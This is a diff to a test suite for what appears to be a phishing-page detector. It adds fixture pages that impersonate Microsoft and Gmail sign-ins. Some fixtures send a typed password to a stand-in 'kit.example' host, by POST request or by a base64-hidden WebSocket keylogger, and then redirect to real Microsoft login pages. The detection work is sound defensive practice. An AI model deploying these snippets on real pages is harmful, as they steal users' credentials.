@@ -35,6 +35,7 @@ const VALUE = 'document.getElementById("pin").value'
 
 suite('a page that poses as a sign-in page', () => {
   const pages: Record<string, string> = {
+    'the names of two services of mail': page('Sign in', `<div>Gmail</div><div>Microsoft</div>${form(KIT)}`),
     'the name of a company as the title': page('Microsoft 365 - Sign in', form(KIT)),
     'in two words': page('Sign in', `<h1>Office 365</h1>${form(KIT)}`),
     'in a heading': page('Document', `<h2 class="x">DocuSign</h2>${form(KIT)}`),
@@ -118,6 +119,16 @@ suite('a page that sends a password by', () => {
         `const x=v.getContext("2d");x.fillText("Password",44,200);const w=new WebSocket(atob("${btoa('wss://kit.example/s')}"));addEventListener("keydown",e=>w.send(e.key))`,
       ),
     ],
+    'a request, and leads to a company': [
+      'FalseLogin',
+      sending(`fetch("${KIT}",{method:"POST",body:${VALUE}});location.href="https://outlook.office.com/"`),
+    ],
+    'a request, and leads to the sign-in of a company': [
+      'CredentialForm',
+      sending(
+        `fetch("${KIT}",{method:"POST",body:${VALUE}});location.href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=1"`,
+      ),
+    ],
     'a service for forms': ['Phishing', page('Mail', form('https://api.web3forms.com/submit'))],
     'a survey': ['Phishing', page('Mail', form('https://docs.google.com/forms/d/e/1/formResponse'))],
   }
@@ -164,6 +175,13 @@ suite('a harmless page', () => {
     'that offers to sign in with a company': [
       'CredentialForm',
       page('Log in', `<h1>Continue with Google</h1>${form('https://contoso.example/login')}`),
+    ],
+    'that lists the companies whose accounts it takes': [
+      'CredentialForm',
+      page(
+        'Log in',
+        `<h1>Contoso</h1>${form('https://contoso.example/login')}<a href="/g">Google</a> <a href="/m">Microsoft</a>`,
+      ),
     ],
     'that counts its readers': [undefined, page('App', form('/login'), `new Image().src="${KIT}?u="+location.href`)],
     'that counts those who search it': [
